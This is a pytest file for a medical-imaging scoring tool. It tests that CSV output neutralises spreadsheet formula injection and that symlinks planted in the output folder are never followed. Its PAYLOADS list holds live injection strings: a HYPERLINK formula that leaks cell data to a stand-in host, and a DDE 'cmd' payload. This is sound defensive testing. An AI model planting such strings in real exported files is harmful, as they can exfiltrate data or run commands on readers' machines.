"""What ``score`` writes cannot be turned against its reader or its writer.

- ``scores.csv`` opened in a spreadsheet runs no formula: a cell that starts with ``=``, ``+``,
  ``-``, ``@``, tab or CR (from a DICOM header, a file name or a model file name) starts with ``'``.
- A symbolic link planted inside the output folder is never followed: nothing is written outside.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import nibabel as nib
import numpy as np
import pytest

from mama_monai.atomic import UnsafeOutputError, atomic_write
from mama_monai.data import load_demo_ct
from mama_monai.workflows.scoring import score_cases
from tests.data.conftest import write_series
from tests.model_files import tiny_model_file

#: what an attacker puts where text ends up in the report
PAYLOADS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+cmd|' -C calc'!A0", "-2+3", "@SUM(1+1)")


def _model(path: Path) -> Path:
    return tiny_model_file(path, 0.05)


@pytest.fixture(scope="module")
def crop(tmp_path_factory) -> Path:
    """Three slices of the real demo CT as NIfTI."""
    path = tmp_path_factory.mktemp("crop") / "ct.nii.gz"
    nib.save(nib.load(load_demo_ct()["image"]).slicer[:, :, 60:63], path)
    return path


def _cells(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, crop, monkeypatch):
    rows, cols = np.meshgrid(np.arange(20), np.arange(24), indexing="ij")
    volume = np.stack([(rows * 30 + cols * 5 + 100 * k).astype(np.int16) for k in range(3)])
    write_series(tmp_path / "series", volume, PatientID=PAYLOADS[0])  # a header value
    model = _model(tmp_path / f"{PAYLOADS[3]}.pt")  # a model file name
    monkeypatch.chdir(tmp_path)
    named = Path(f"{PAYLOADS[1]}.nii.gz")  # an input path as typed
    named.write_bytes(crop.read_bytes())
    broken = Path(f"{PAYLOADS[2]}.nii.gz")
    broken.write_bytes(b"not a nifti file")
    report = score_cases(model, ["series", str(named), str(broken)], "out", include_identifiers=True)
    assert len(report["cases"]) == 2 and len(report["failures"]) == 1
    rows = _cells(tmp_path / "out" / "scores.csv")
    series, nifti, failed = rows  # cases in input order, then failures
    assert series["input"] == "series" and series["patient_id"] == "'" + PAYLOADS[0]
    assert nifti["input"] == "'" + str(named)
    assert failed["input"] == "'" + str(broken) and failed["status"] == "failed"
    assert {r["model"] for r in rows if r["status"] == "ok"} == {"'" + f"{PAYLOADS[3]}.pt"}
    for row in rows:  # no cell at all starts like a formula
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            assert not value.startswith("-") or value.lstrip("-").replace(".", "", 1).isdigit(), (column, value)
    on_disk = json.loads((tmp_path / "out" / "scores.json").read_text())  # JSON keeps the values as they are
    assert on_disk["cases"][0]["patient_id"] == PAYLOADS[0]


def test_links_inside_the_output_folder_are_never_followed(tmp_path, crop):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "precious.csv").write_text("keep me\n")
    out = tmp_path / "out"
    out.mkdir()
    for name in ("case_001", "ct"):  # the case folder, whatever the case is called
        os.symlink(outside, out / name)
    os.symlink(outside / "precious.csv", out / "scores.csv")
    report = score_cases(_model(tmp_path / "model.pt"), [crop], out, overwrite=True)
    assert sorted(p.name for p in outside.iterdir()) == ["precious.csv"]  # nothing written through a link
    assert (outside / "precious.csv").read_text() == "keep me\n"
    assert report["cases"] == [] and "symbolic link" in report["failures"][0]["error"]
    assert (out / "scores.csv").is_file() and not (out / "scores.csv").is_symlink()  # the link was replaced


def test_atomic_write_refuses_a_link_at_any_depth_below_the_root(tmp_path):
    root, outside = tmp_path / "root", tmp_path / "outside"
    (root / "a").mkdir(parents=True)
    outside.mkdir()
    os.symlink(outside, root / "a" / "b")
    with pytest.raises(UnsafeOutputError, match=r"'.*/root/a/b' is a symbolic link inside the output"):
        atomic_write(root / "a" / "b" / "c" / "file.txt", lambda f: f.write(b"x"), root=root)
    assert list(outside.iterdir()) == []
    link_root = tmp_path / "link_root"  # the root itself may be a link: the user chose it
    os.symlink(root, link_root)
    atomic_write(link_root / "a" / "new" / "file.txt", lambda f: f.write(b"x"), root=link_root)
    assert (root / "a" / "new" / "file.txt").read_bytes() == b"x"
